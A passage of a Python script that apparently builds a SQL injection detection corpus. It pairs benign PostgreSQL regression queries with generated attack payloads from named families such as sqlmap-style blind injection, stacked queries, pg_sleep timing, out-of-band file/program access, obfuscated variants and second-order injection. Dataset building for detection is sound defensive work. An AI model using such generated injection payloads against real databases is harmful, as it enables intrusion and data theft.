 ("geometry", "SELECT circle '<(0,0),5>' @> point '(3,3)', box '(2,2),(0,0)' && box '(3,3),(1,1)'"), ("geometry", "SELECT lseg '[(0,0),(2,2)]' ?# lseg '[(0,2),(2,0)]'"),
 # DDL and DML
 ("create_table", "CREATE TABLE hash_parted11 (a int, b text) PARTITION BY HASH (a)"), ("create_table", "CREATE TABLE hash_parted11_0 PARTITION OF hash_parted11 FOR VALUES WITH (MODULUS 2, REMAINDER 0)"),
 ("create_table", "CREATE TABLE list_parted11_ab PARTITION OF list_parted11 FOR VALUES IN ('a', 'b')"), ("create_table", "CREATE UNLOGGED TABLE unlogged11 (a int PRIMARY KEY)"),
 ("create_table", "CREATE TABLE defcheck11 (a int DEFAULT 5 CHECK (a > 0), b text COLLATE \"C\" NOT NULL DEFAULT '')"),
 ("create_table", "CREATE TABLE idxpart11 (a int, b int, UNIQUE (a) INCLUDE (b), EXCLUDE USING btree (b WITH =))"),
 ("create_table", "CREATE TABLE ctas11 AS SELECT g AS n, g * 2 AS m FROM generate_series(1, 10) g WITH NO DATA"),
 ("create_table", "CREATE TABLE gen11 (a int, b int GENERATED ALWAYS AS (a + 1) STORED, c int GENERATED BY DEFAULT AS IDENTITY)"),
 ("create_table", "CREATE TABLE fk_ref11 (id int REFERENCES fk_pk11 MATCH FULL ON UPDATE CASCADE ON DELETE RESTRICT)"),
 ("alter_table", "ALTER TABLE defcheck11 ADD COLUMN c int DEFAULT 0 NOT NULL, ALTER COLUMN b SET STORAGE EXTERNAL"), ("alter_table", "ALTER TABLE defcheck11 RENAME TO defcheck11_r"),
 ("alter_table", "ALTER TABLE gen11 ALTER COLUMN c SET GENERATED ALWAYS"), ("alter_table", "ALTER TABLE gen11 ALTER COLUMN a SET STATISTICS 1000"),
 ("alter_table", "ALTER TABLE hash_parted11 ATTACH PARTITION hash_parted11_1 FOR VALUES WITH (MODULUS 2, REMAINDER 1)"),
 ("alter_table", "ALTER TABLE IF EXISTS nonexistent11 ADD COLUMN x int"), ("alter_table", "ALTER TABLE unlogged11 SET LOGGED, SET (fillfactor = 90)"),
 ("alter_table", "ALTER TABLE idxpart11 DROP CONSTRAINT idxpart11_a_key CASCADE"), ("alter_table", "ALTER TABLE gen11 INHERIT defcheck11_r"),
 ("create_index", "CREATE INDEX ON idxpart11 USING btree (a DESC, b NULLS FIRST)"), ("create_index", "CREATE INDEX gin11 ON range_test11 USING gist (r)"),
 ("create_index", "CREATE INDEX expr11 ON gen11 ((a + b)) WHERE c IS NOT NULL"), ("create_index", "DROP INDEX CONCURRENTLY IF EXISTS expr11"),
 ("create_index", "ALTER INDEX gin11 RENAME TO gist11"), ("create_index", "REINDEX (CONCURRENTLY, VERBOSE) INDEX gist11"),
 ("create_view", "CREATE TEMP VIEW tv11 AS SELECT n, m FROM ctas11 WHERE n > 2"), ("create_view", "CREATE VIEW cascaded11 AS SELECT * FROM tv11 WITH CASCADED CHECK OPTION"),
 ("create_view", "ALTER VIEW IF EXISTS tv11 ALTER COLUMN n SET DEFAULT 3"), ("create_view", "DROP VIEW IF EXISTS cascaded11, tv11"),
 ("matview", "CREATE MATERIALIZED VIEW mv11 (n, doubled) AS SELECT n, m FROM ctas11"), ("matview", "REFRESH MATERIALIZED VIEW CONCURRENTLY mv11"),
 ("rowsecurity", "CREATE POLICY p11_sel ON rls_tbl11 FOR SELECT USING (owner = current_user)"), ("rowsecurity", "CREATE POLICY p11_ins ON rls_tbl11 FOR INSERT WITH CHECK (owner = current_user)"),
 ("rowsecurity", "ALTER TABLE rls_tbl11 NO FORCE ROW LEVEL SECURITY"),
 ("privileges", "CREATE ROLE regress_priv11 WITH NOLOGIN NOINHERIT CONNECTION LIMIT 3"), ("privileges", "GRANT USAGE ON SCHEMA public TO regress_priv11 WITH GRANT OPTION"),
 ("privileges", "REVOKE GRANT OPTION FOR USAGE ON SCHEMA public FROM regress_priv11 CASCADE"), ("privileges", "GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA public TO regress_priv11"),
 ("privileges", "ALTER ROLE regress_priv11 SET work_mem = '8MB'"), ("privileges", "SELECT has_schema_privilege('regress_priv11', 'public', 'USAGE')"),
 ("privileges", "SELECT rolname, rolconnlimit FROM pg_roles WHERE rolname = 'regress_priv11'"), ("privileges", "DROP ROLE regress_priv11"),
 ("sequence", "CREATE TEMP SEQUENCE tseq11 START 100 INCREMENT BY 5 NO CYCLE CACHE 10"), ("sequence", "SELECT nextval('tseq11'::regclass), lastval()"),
 ("sequence", "ALTER SEQUENCE tseq11 RESTART WITH 1 MAXVALUE 50"), ("sequence", "SELECT last_value, is_called FROM tseq11"),
 ("create_function_sql", "CREATE FUNCTION double11(int) RETURNS int STRICT IMMUTABLE LANGUAGE sql AS $$ SELECT $1 * 2 $$"),
 ("create_function_sql", "CREATE FUNCTION setof11() RETURNS SETOF int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END"),
 ("create_function_sql", "CREATE OR REPLACE FUNCTION out11(IN a int, OUT b int, OUT c text) LANGUAGE sql AS 'SELECT a + 1, a::text'"),
 ("create_function_sql", "SELECT * FROM out11(4)"), ("create_function_sql", "ALTER FUNCTION double11(int) COST 5 ROWS 1 LEAKPROOF"),
 ("create_procedure", "CREATE PROCEDURE ptest11(x int, INOUT y int) LANGUAGE sql BEGIN ATOMIC SELECT x + y; END"), ("create_procedure", "CALL ptest11(1, NULL)"),
 ("plpgsql", "CREATE FUNCTION loop11(n int) RETURNS int LANGUAGE plpgsql AS $$ DECLARE s int := 0; BEGIN FOR i IN REVERSE n..1 BY 2 LOOP s := s + i; END LOOP; RETURN s; END $$"),
 ("plpgsql", "CREATE FUNCTION case11(x int) RETURNS text LANGUAGE plpgsql AS $$ BEGIN CASE WHEN x < 0 THEN RETURN 'neg'; WHEN x = 0 THEN RETURN 'zero'; ELSE RETURN 'pos'; END CASE; END $$"),
 ("plpgsql", "DO $$ DECLARE c CURSOR FOR SELECT g FROM generate_series(1, 2) g; v int; BEGIN OPEN c; FETCH c INTO v; CLOSE c; END $$"),
 ("plpgsql", "CREATE FUNCTION diag11() RETURNS int LANGUAGE plpgsql AS $$ DECLARE n int; BEGIN PERFORM 1; GET DIAGNOSTICS n = ROW_COUNT; RETURN n; END $$"),
 ("plpgsql", "DO $$ BEGIN ASSERT 1 + 1 = 2, 'math is broken'; END $$"),
 ("triggers", "CREATE TRIGGER before11 BEFORE UPDATE ON gen11 FOR EACH ROW WHEN (NEW.a IS DISTINCT FROM OLD.a) EXECUTE PROCEDURE trigger_func11()"),
 ("triggers", "ALTER TRIGGER before11 ON gen11 RENAME TO before11_r"), ("triggers", "ALTER TABLE gen11 ENABLE ALWAYS TRIGGER before11_r"),
 ("triggers", "CREATE OR REPLACE TRIGGER after11 AFTER TRUNCATE ON gen11 FOR EACH STATEMENT EXECUTE FUNCTION trigger_func11()"),
 ("rules", "CREATE RULE rtest11 AS ON INSERT TO rtest_v11 DO INSTEAD INSERT INTO rtest_t11 VALUES (new.a)"), ("rules", "ALTER RULE rtest11 ON rtest_v11 RENAME TO rtest11_r"),
 ("create_type", "CREATE TYPE pair11 AS (a int, b text)"), ("create_type", "SELECT ROW(1, 'x')::pair11, (ROW(2, 'y')::pair11).b"), ("create_type", "ALTER TYPE pair11 RENAME ATTRIBUTE b TO label"),
 ("create_cast", "CREATE FUNCTION int4_casttesttype11(int4) RETURNS casttesttype11 LANGUAGE sql AS $$ SELECT ('foo'::text || $1::text)::casttesttype11 $$"),
 ("create_operator", "CREATE OPERATOR @#@ (rightarg = int8, procedure = factorial)"), ("create_operator", "DROP OPERATOR IF EXISTS @#@ (none, int8)"),
 ("create_aggregate", "CREATE AGGREGATE newcnt11 (\"any\") (sfunc = int8inc_any, stype = int8, initcond = '0', parallel = safe)"),
 ("collate", "SELECT 'Å' < 'Z' COLLATE \"C\", lower('ǅ' COLLATE \"C\")"), ("collate", "SELECT a FROM (VALUES ('b'), ('A'), ('a')) v(a) ORDER BY a COLLATE \"C\""),
 ("stats_ext", "CREATE STATISTICS IF NOT EXISTS stx11 ON (a + b), c FROM gen11"), ("stats_ext", "DROP STATISTICS IF EXISTS stx11"),
 # queries
 ("select", "SELECT DISTINCT ON (four) four, ten FROM tenk1 ORDER BY four, ten DESC"), ("select", "SELECT * FROM onek WHERE onek.unique1 < 10 ORDER BY onek.unique1 USING <"),
 ("select", "SELECT two, count(*) FROM tenk1 GROUP BY ALL two HAVING count(*) > 10"), ("select", "SELECT * FROM (VALUES (1, 2), (3, 4)) AS v (x, y) WHERE x > 2"),
 ("select", "SELECT 1 AS one WHERE false"), ("select", "SELECT f1 FROM int4_tbl11 t WHERE t.f1 IN (SELECT unnest('{1,2}'::int[]))"),
 ("select_distinct", "SELECT DISTINCT four FROM tenk1 ORDER BY 1"), ("select_distinct", "SELECT count(DISTINCT (four, ten)) FROM tenk1"),
 ("select_having", "SELECT b, c FROM test_having GROUP BY b, c HAVING count(*) = 1 ORDER BY b, c"),
 ("join", "SELECT * FROM int4_tbl11 a LEFT JOIN LATERAL (SELECT a.f1 + 1 AS g) s ON true"), ("join", "SELECT * FROM tenk1 t1 JOIN tenk1 t2 USING (unique1) WHERE t1.unique1 < 3"),
 ("join", "SELECT * FROM onek a RIGHT JOIN onek b ON a.unique1 = b.unique2 WHERE b.unique1 = 5"), ("join", "SELECT * FROM int4_tbl11 x NATURAL FULL JOIN int4_tbl11 y"),
 ("join", "SELECT * FROM int8_tbl11 a, LATERAL (SELECT * FROM int8_tbl11 b WHERE a.q2 = b.q1) ss"),
 ("subselect", "SELECT f1 FROM int4_tbl11 WHERE f1 > ALL (SELECT f1 FROM int4_tbl11 WHERE f1 < 0)"), ("subselect", "SELECT (SELECT ARRAY[1, 2, 3])[2]"),
 ("subselect", "SELECT * FROM (SELECT * FROM int4_tbl11 OFFSET 0) ss WHERE f1 > 0"), ("subselect", "SELECT EXISTS (SELECT 1 FROM tenk1 WHERE unique1 = 42)"),
 ("union", "SELECT 1 AS two UNION SELECT 2 ORDER BY 1"), ("union", "SELECT q1 FROM int8_tbl11 INTERSECT SELECT q2 FROM int8_tbl11 ORDER BY 1"),
 ("union", "(SELECT 1, 2) UNION ALL (SELECT 3, 4) ORDER BY 1 DESC LIMIT 1"), ("union", "SELECT f1 FROM int4_tbl11 EXCEPT DISTINCT SELECT f1 FROM int4_tbl11 WHERE f1 < 0"),
 ("with", "WITH q1(x, y) AS (SELECT 1, 2) SELECT * FROM q1, q1 AS q2"), ("with", "WITH RECURSIVE fib(a, b) AS (VALUES (0, 1) UNION ALL SELECT b, a + b FROM fib WHERE b < 100) SELECT a FROM fib"),
 ("with", "WITH RECURSIVE search_graph(f, t, label) AS (SELECT * FROM graph11 g UNION ALL SELECT g.* FROM graph11 g, search_graph sg WHERE g.f = sg.t) SEARCH BREADTH FIRST BY f, t SET seq SELECT * FROM search_graph ORDER BY seq"),
 ("with", "WITH t AS (UPDATE gen11 SET a = a + 1 RETURNING a) SELECT sum(a) FROM t"), ("with", "WITH x AS MATERIALIZED (SELECT random() AS r) SELECT r FROM x"),
 ("window", "SELECT ten, two, sum(hundred) OVER (PARTITION BY two ORDER BY ten) FROM tenk1 WHERE unique1 < 10"),
 ("window", "SELECT unique1, sum(unique1) OVER (ORDER BY unique1 ROWS BETWEEN 2 PRECEDING AND 2 FOLLOWING EXCLUDE CURRENT ROW) FROM tenk1 WHERE unique1 < 10"),
 ("window", "SELECT unique1, first_value(unique1) OVER (ORDER BY four RANGE BETWEEN CURRENT ROW AND UNBOUNDED FOLLOWING EXCLUDE GROUP) FROM tenk1 WHERE unique1 < 10"),
 ("window", "SELECT x, count(*) OVER (ORDER BY x GROUPS BETWEEN 1 PRECEDING AND 1 FOLLOWING) FROM generate_series(1, 5) x"),
 ("window", "SELECT four, percent_rank() OVER w, cume_dist() OVER w FROM tenk1 WHERE unique2 < 10 WINDOW w AS (PARTITION BY four ORDER BY ten)"),
 ("window", "SELECT i, sum(i) OVER (ORDER BY i RANGE BETWEEN 1.5 PRECEDING AND 0.5 FOLLOWING) FROM (VALUES (1.0), (2.0), (3.5)) v(i)"),
 ("aggregates", "SELECT avg(four) AS avg_1 FROM onek"), ("aggregates", "SELECT array_agg(ten ORDER BY ten DESC) FILTER (WHERE ten > 5) FROM tenk1 WHERE unique1 < 20"),
 ("aggregates", "SELECT var_pop(1.0::float8), stddev_pop(3.0::numeric)"), ("aggregates", "SELECT covar_pop(b, a), regr_count(b, a) FROM aggtest"),
 ("aggregates", "SELECT mode() WITHIN GROUP (ORDER BY ten) FROM tenk1"), ("aggregates", "SELECT rank(3) WITHIN GROUP (ORDER BY x) FROM (VALUES (1), (3), (5)) v(x)"),
 ("aggregates", "SELECT bool_and(four > 0), bool_or(four > 2) FROM tenk1"), ("aggregates", "SELECT min(x), max(x) FROM (VALUES ('b'), ('a')) v(x)"),
 ("groupingsets", "SELECT a, b, sum(v) FROM gstest11 GROUP BY GROUPING SETS ((a, b), (a), ())"), ("groupingsets", "SELECT a, b, grouping(a, b) FROM gstest11 GROUP BY CUBE (a, b) ORDER BY 1, 2"),
 ("groupingsets", "SELECT a, sum(v) FROM gstest11 GROUP BY ROLLUP (a), b HAVING sum(v) > 0"),
 ("insert", "INSERT INTO gen11 (a) SELECT g FROM generate_series(1, 3) g RETURNING *"), ("insert", "INSERT INTO gen11 (a) VALUES (DEFAULT), (7)"),
 ("insert", "INSERT INTO gen11 (a, c) OVERRIDING USER VALUE VALUES (1, 100)"), ("insert_conflict", "INSERT INTO unlogged11 VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a + 100 RETURNING a"),
 ("insert_conflict", "INSERT INTO unlogged11 AS u VALUES (2) ON CONFLICT ON CONSTRAINT unlogged11_pkey DO NOTHING"),
 ("merge", "MERGE INTO gen11 t USING (VALUES (1), (50)) s(a) ON t.a = s.a WHEN MATCHED THEN UPDATE SET a = t.a + 1 WHEN NOT MATCHED THEN INSERT (a) VALUES (s.a)"),
 ("merge", "MERGE INTO unlogged11 u USING gen11 g ON u.a = g.a WHEN MATCHED AND g.b > 10 THEN DELETE WHEN NOT MATCHED AND g.a > 0 THEN INSERT VALUES (g.a)"),
 ("merge", "MERGE INTO unlogged11 u USING (SELECT 5 AS a) s ON u.a = s.a WHEN MATCHED THEN DO NOTHING WHEN NOT MATCHED THEN INSERT DEFAULT VALUES"),
 ("update", "UPDATE gen11 SET a = s.n FROM ctas11 s WHERE gen11.c = s.m"), ("update", "UPDATE gen11 SET (a) = ROW(a + 1) WHERE c < 3"),
 ("update", "UPDATE ONLY gen11 t SET a = DEFAULT WHERE t.a IS NULL RETURNING t.*"),
 ("delete", "DELETE FROM gen11 USING ctas11 WHERE gen11.a = ctas11.n AND ctas11.m > 4"), ("delete", "DELETE FROM gen11 WHERE a IN (SELECT n FROM ctas11) RETURNING a"),
 ("limit", "SELECT unique1 FROM tenk1 ORDER BY unique1 LIMIT 3 OFFSET 5"), ("limit", "SELECT unique1 FROM tenk1 ORDER BY unique1 OFFSET 10 ROWS FETCH FIRST ROW ONLY"),
 ("limit", "SELECT thousand FROM tenk1 WHERE thousand < 5 ORDER BY thousand FETCH FIRST 2 ROWS WITH TIES"), ("limit", "SELECT 1 LIMIT NULL"),
 ("case", "SELECT CASE WHEN 1 = 0 THEN 1 / 0 WHEN 1 = 1 THEN 1 ELSE 2 / 0 END"), ("case", "SELECT COALESCE(a.f, b.i, b.j) FROM case_tbl11 a, case2_tbl11 b"),
 ("prepare", "PREPARE q11 AS SELECT * FROM tenk1 WHERE unique1 = $1"), ("prepare", "EXECUTE q11(42)"), ("prepare", "DEALLOCATE PREPARE q11"),
 ("portals", "BEGIN; DECLARE foo11 CURSOR FOR SELECT * FROM tenk1 ORDER BY unique2; FETCH 10 IN foo11; CLOSE foo11; COMMIT"),
 ("portals", "DECLARE bc11 BINARY CURSOR FOR SELECT 1"), ("portals", "FETCH ALL FROM foo11"), ("portals", "MOVE FORWARD ALL IN foo11"),
 ("transactions", "BEGIN TRANSACTION ISOLATION LEVEL REPEATABLE READ"), ("transactions", "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'"), ("transactions", "SHOW transaction_isolation"),
 ("transactions", "ROLLBACK AND CHAIN"), ("transactions", "SELECT txid_current() IS NOT NULL, pg_current_xact_id_if_assigned()"),
 ("copy2", "COPY x11 (a, b, c) FROM stdin WITH (DELIMITER ',', NULL 'x')"), ("copy2", "COPY x11 TO stdout WITH (FORMAT csv, QUOTE '''', FORCE_QUOTE (b))"),
 ("copy2", "COPY (SELECT * FROM x11 WHERE a < 3) TO stdout"), ("copy2", "COPY x11 FROM stdin (FORMAT csv, HEADER, ESCAPE E'\\\\')"),
 ("explain", "EXPLAIN (COSTS OFF) SELECT * FROM tenk1 WHERE unique1 = 1"), ("explain", "EXPLAIN (ANALYZE, COSTS OFF, SUMMARY OFF, TIMING OFF) SELECT 1"),
 ("explain", "EXPLAIN (COSTS OFF, FORMAT xml) SELECT count(*) FROM onek"), ("explain", "EXPLAIN (WAL, ANALYZE, COSTS OFF) INSERT INTO gen11 (a) VALUES (1)"),
 ("tablesample", "SELECT count(*) FROM tenk1 TABLESAMPLE BERNOULLI (10) REPEATABLE (42)"), ("tablesample", "SELECT * FROM tenk1 TABLESAMPLE SYSTEM (0.5) WHERE ten = 1"),
 ("tsrf", "SELECT generate_series(1, 3) AS g, generate_series(1, 2) AS h"), ("tsrf", "SELECT * FROM generate_subscripts(ARRAY[10, 20, 30], 1) s"),
 ("largeobject", "SELECT lo_unlink(0)"), ("largeobject", "SELECT loread(lo_open(0, x'40000'::int), 10)"),
 ("misc_functions", "SELECT pg_typeof(ARRAY[1.5]), pg_column_compression('abc'::text)"), ("misc_functions", "SELECT pg_size_pretty(10485760::bigint), pg_size_bytes('1 GB')"),
 ("misc_functions", "SELECT current_setting('work_mem'), current_setting('nonexistent.setting', true)"), ("misc_functions", "SELECT pg_get_viewdef('pg_roles'::regclass, true) IS NOT NULL"),
 ("misc_functions", "SELECT to_regclass('pg_class'), to_regproc('now'), to_regtype('int4')"), ("misc_functions", "SELECT format_type('int4'::regtype, NULL), format_type('varchar'::regtype, 14)"),
 ("sysviews", "SELECT count(*) > 0 FROM pg_stat_wal"), ("sysviews", "SELECT name FROM pg_available_extension_versions WHERE name = 'plpgsql' LIMIT 1"),
 ("sysviews", "SELECT count(*) >= 0 FROM pg_shmem_allocations"), ("sysviews", "SELECT abbrev FROM pg_timezone_abbrevs WHERE abbrev = 'UTC'"),
 ("namespace", "CREATE SCHEMA test_ns_schema_11 CREATE TABLE abc (a serial, b int UNIQUE) CREATE VIEW abc_view AS SELECT a + 1 AS a, b + 1 AS b FROM abc"),
 ("namespace", "SELECT nspname FROM pg_namespace WHERE nspname LIKE 'test_ns%'"), ("namespace", "DROP SCHEMA test_ns_schema_11 CASCADE"),
 ("lock", "LOCK TABLE ONLY gen11 IN ACCESS SHARE MODE NOWAIT"), ("vacuum", "VACUUM (SKIP_LOCKED, PROCESS_TOAST false) gen11"), ("vacuum", "ANALYZE (VERBOSE, SKIP_LOCKED) gen11"),
 ("vacuum", "VACUUM (TRUNCATE false, INDEX_CLEANUP AUTO) unlogged11"), ("cluster", "ALTER TABLE gen11 CLUSTER ON gen11_pkey"), ("cluster", "ALTER TABLE gen11 SET WITHOUT CLUSTER"),
 ("publication", "CREATE PUBLICATION testpub11 FOR TABLES IN SCHEMA public WITH (publish_via_partition_root = true)"), ("publication", "ALTER PUBLICATION testpub11 OWNER TO CURRENT_USER"),
 ("subscription", "ALTER SUBSCRIPTION regress_testsub11 SET (synchronous_commit = off)"), ("subscription", "ALTER SUBSCRIPTION regress_testsub11 DISABLE"),
 ("foreign_data", "CREATE FOREIGN DATA WRAPPER foo11 NO HANDLER NO VALIDATOR"), ("foreign_data", "CREATE SERVER s11 FOREIGN DATA WRAPPER foo11 OPTIONS (host 'a', dbname 'b')"),
 ("foreign_data", "CREATE USER MAPPING FOR current_user SERVER s11 OPTIONS (user 'x')"), ("foreign_data", "CREATE FOREIGN TABLE ft11 (c1 int NOT NULL, c2 text) SERVER s11 OPTIONS (delimiter ',')"),
 ("foreign_data", "IMPORT FOREIGN SCHEMA remote11 LIMIT TO (t1, t2) FROM SERVER s11 INTO public"), ("foreign_data", "DROP SERVER IF EXISTS s11 CASCADE"),
 ("security_label", "SECURITY LABEL ON ROLE regress_priv11 IS NULL"), ("comments", "COMMENT ON COLUMN gen11.b IS 'a plus one'"), ("comments", "COMMENT ON SCHEMA public IS NULL"),
 ("listen_notify", "NOTIFY notify_async11"), ("listen_notify", "SELECT pg_notify('notify_async11', 'sample message')"), ("listen_notify", "UNLISTEN notify_async11"),
 ("guc", "SET datestyle = 'ISO, YMD'"), ("guc", "SET LOCAL search_path TO pg_catalog"), ("guc", "SHOW ALL"), ("guc", "RESET datestyle"), ("guc", "SET SESSION TIME ZONE DEFAULT"),
 ("guc", "SELECT set_config('work_mem', '2MB', false)"), ("guc", "SET seq_page_cost TO 1.5"), ("guc", "ALTER DATABASE regression11 SET enable_seqscan = off"),
 ("errors", "SELECT 1/0"), ("errors", "SELECT * FROM nonesuch11"), ("errors", "INSERT INTO unlogged11 VALUES (NULL)"), ("errors", "SELECT 'not a number'::numeric"),
 ("errors", "-- ambiguous column\nSELECT a FROM gen11, unlogged11"), ("errors", "SELECT sum(unique1) OVER (ORDER BY nonesuch) FROM tenk1"),
 ("numerology", "SELECT 0.0 AS zero, -0.0 AS negzero, 1e400::float8 IS NULL"), ("numerology", "SELECT 1.5e3::int, 0.000001e6, 1e-3 * 1000"),
 ("event_trigger", "CREATE EVENT TRIGGER regress_evt11 ON ddl_command_start WHEN TAG IN ('CREATE TABLE', 'DROP TABLE') EXECUTE FUNCTION test_event_trigger11()"),
 ("event_trigger", "ALTER EVENT TRIGGER regress_evt11 DISABLE"), ("event_trigger", "DROP EVENT TRIGGER IF EXISTS regress_evt11"),
 ("conversion", "SELECT convert('abc'::bytea, 'UTF8', 'LATIN1')"), ("psql", "SELECT 1 AS \"one\", 2 AS \"two\""),
]


def regress_rows(r):
    out, add = regress_list("regress11", REGRESS_FIXED)
    for typ, vals in [("int2", ["'-1234'", "' 0 '"]), ("int4", ["'  -2147483648'", "'+42'"]), ("int8", ["'-9223372036854775808'", "'4567890123456789'"]),
                      ("float4", ["'  1.5e-3'", "'-Infinity'"]), ("float8", ["'2.2250738585072014E-308'", "'  nan  '"]), ("numeric", ["'123456789.0000000001'", "'-NaN'"]),
                      ("date", ["'1999-01-08'", "'January 8, 1999'", "'J2451187'", "'99-Jan-08'"]), ("time", ["'04:05:06.789'", "'040506'", "'4:05 AM'"]),
                      ("timetz", ["'04:05:06-08:00'"]), ("timestamp", ["'1999-01-08 04:05:06'", "'epoch'"]), ("timestamptz", ["'1999-01-08 04:05:06 +2'", "'2004-10-19 10:23:54+02'"]),
                      ("interval", ["'1-2'", "'3 4:05:06'", "'P0003-04-05T06:07:08'"]), ("inet", ["'192.168.100.128/25'", "'::ffff:1.2.3.4'"]), ("cidr", ["'192.168/24'", "'2001:4f8:3:ba::/64'"]),
                      ("macaddr", ["'08002b:010203'", "'0800-2b01-0203'"]), ("uuid", ["'{a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11}'"]), ("bytea", ["'\\x48454c4c4f'"]),
                      ("json", ["'{\"bar\": \"baz\", \"balance\": 7.77}'", "'[1, 2, \"three\"]'"]), ("tsvector", ["'a fat cat sat on a mat'", "'a:1 fat:2B'"]), ("tsquery", ["'fat & (rat | cat)'"]),
                      ("box", ["'(1,1),(0,0)'"]), ("path", ["'[(0,0),(1,1),(2,0)]'"]), ("polygon", ["'((0,0),(1,1),(1,0))'"]), ("int4range", ["'[1,10)'", "'empty'"]),
                      ("tstzrange", ["'[2025-01-01 00:00+00,2025-01-02 00:00+00)'"]), ("varbit", ["'1101'"]), ("regtype", ["'integer'"]), ("regproc", ["'now'"]), ("xid8", ["'42'"])]:
        for v in vals:
            add(typ, "SELECT %s::%s" % (v, typ))
            if r.random() < 0.4:
                add(typ, "SELECT %s %s" % (typ, v))
    for _ in range(30):
        a, b = r.randint(-90000, 90000), r.randint(1, 900)
        t = r.choice(["int2", "int4", "int8", "numeric", "float8"])
        add(t, "SELECT (%d)::%s %s (%d)::%s AS result" % (a % 30000 if t == "int2" else a, t, r.choice(["+", "-", "*", "/", "%", ">=", "<", "=", "!="]), b, t))
    for _ in range(20):
        s = r.choice(["bell tower", "Ölmühle", "a-b-c", "PostgreSQL", "mountain hut"])
        add("strings", r.choice(["SELECT rpad('%s', %d, '.')" % (s, r.randint(1, 25)), "SELECT left('%s', %d), right('%s', %d)" % (s, r.randint(-3, 6), s, r.randint(-3, 6)),
                                 "SELECT position('%s' in '%s')" % (s[r.randint(0, 3):][:2], s), "SELECT split_part('%s', '%s', %d)" % (s, s[2:3] or "-", r.randint(1, 3)),
                                 "SELECT md5('%s'), length('%s')" % (s, s), "SELECT overlay('%s' placing '**' from %d)" % (s, r.randint(1, 5))]))
    for _ in range(20):
        add("horology", r.choice(["SELECT date '%s' + %d" % (rdate(r), r.randint(-400, 400)),
                                  "SELECT date_trunc('%s', timestamp '%s 13:14:15')" % (r.choice(["hour", "month", "year", "week", "quarter"]), rdate(r)),
                                  "SELECT to_char(timestamp '%s 07:08:09', '%s')" % (rdate(r), r.choice(["HH12:MI AM", "YYYY \"Q\"Q", "Day", "DDD", "J", "TZ"])),
                                  "SELECT (date '%s', date '%s') OVERLAPS (date '%s', interval '%d days')" % (rdate(r), rdate(r), rdate(r), r.randint(1, 60)),
                                  "SELECT extract(%s FROM interval '%d days %d hours')" % (r.choice(["day", "hour", "epoch"]), r.randint(0, 40), r.randint(0, 23))]))
    for _ in range(15):
        add("select", "SELECT unique1, two, four FROM onek WHERE %s ORDER BY %s LIMIT %d" % (r.choice(["four = %d" % r.randint(0, 3), "unique1 BETWEEN %d AND %d" % (r.randint(0, 40), r.randint(41, 90)), "stringu1 >= '%s'" % rword(r, 2, True), "two <> %d" % r.randint(0, 1)]), r.choice(["unique1", "four, unique1 DESC", "two DESC"]), r.randint(1, 15)))
    for _ in range(12):
        add("arrays", r.choice(["SELECT (ARRAY[%s])[%d:%d]" % (",".join(str(r.randint(0, 99)) for _ in range(6)), r.randint(1, 3), r.randint(3, 6)),
                                "SELECT array_prepend(%d, ARRAY[%d, %d])" % tuple(r.randint(0, 50) for _ in range(3)),
                                "SELECT ARRAY[%d, %d] && ARRAY[%d]" % tuple(r.randint(0, 9) for _ in range(3))]))
    for _ in range(10):
        lo, hi = sorted(r.sample(range(0, 100), 2))
        add("rangetypes", r.choice(["SELECT int8range(%d, %d) * int8range(%d, %d)" % (lo, hi, r.randint(0, 50), r.randint(51, 120)), "SELECT numrange(%d, %d, '(]') @> %d.5::numeric" % (lo, hi, r.randint(0, 99)),
                                    "SELECT daterange('2025-01-%02d', '2025-02-%02d') @> date '2025-01-%02d'" % (r.randint(1, 28), r.randint(1, 28), r.randint(1, 28))]))
    for _ in range(8):
        add("window", "SELECT ten, four, %s OVER (PARTITION BY four ORDER BY ten %s) FROM tenk1 WHERE unique2 < %d" % (r.choice(["sum(ten)", "avg(ten)", "count(*)", "max(ten)"]), r.choice(["ROWS BETWEEN CURRENT ROW AND 2 FOLLOWING", "RANGE BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW", "GROUPS BETWEEN UNBOUNDED PRECEDING AND 1 FOLLOWING EXCLUDE TIES"]), r.randint(5, 40)))
    return out


# ---------------------------------------------------------------- assembly
TECHNIQUE_FAMILIES = ["sqlmap_time_blind", "sqlmap_boolean_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query", "sqlmap_union_query",
                      "tautology", "stacked", "oob_file_program", "time_pg_sleep", "boolean_blind", "error_cast", "dollar_quote", "e_escape",
                      "plpgsql_do_exec", "union", "string_concat_subquery"]
OBF_BASES = ["tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "sqlmap_time_blind", "sqlmap_boolean_blind", "sqlmap_error_based", "sqlmap_union_query", "sqlmap_stacked_queries"]
SECOND_ORDER = ("t11_volunteer_phone", "b")     # a display name stored at sign-up and reused by the phone-number form


def main():
    rng = random.Random(SEED)
    corpus = SlotCorpus(rng, load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, opts_safe(TAG))
    pairs, attack, benign = corpus.pairs, corpus.attack, corpus.benign

    def hand(si, fam):
        return hand_payload(rng, si, fam, lambda r, f: hand_cores(r, f, si), fitting, build)

    def pick_slot():
        if rng.random() < 0.04:
            return TPL[SECOND_ORDER[0]], SECOND_ORDER[1], "second_order:"
        tpl, slot = rng.choice(pairs)
        return tpl, slot, ""

    string_payloads = corpus.payloads      # (payload, variant) for the escaped rows

    # --- techniques: one core, put into a slot the way a tester would
    for fam in TECHNIQUE_FAMILIES:
        got = tries = 0
        while got < ATTACK_TARGET[fam] and tries < 60000:
            tries += 1
            tpl, slot, tag = pick_slot()
            res = hand(slot_info(tpl, slot), fam)
            if res is None:
                continue
            name, pl, dbms = res
            if attack(tpl, slot, pl, fam, "%s%s:%s" % (tag, fam, name), dbms):
                got += 1
                string_payloads.append((pl, "%s:%s" % (fam, name)))

    # --- obfuscated variants: reshaped outside literals and comments
    for fam in OBF_FAMILIES:
        got = tries = 0
        while got < ATTACK_TARGET[fam] and tries < 60000:
            tries += 1
            tpl, slot = rng.choice(pairs)
            si = slot_info(tpl, slot)
            base = rng.choice(OBF_BASES)
            res = hand(si, base)
            if res is None:
                continue
            name, pl, dbms = res
            pl2 = obfuscate(rng, fam, pl, si["type"])
            if pl2 == pl:
                continue
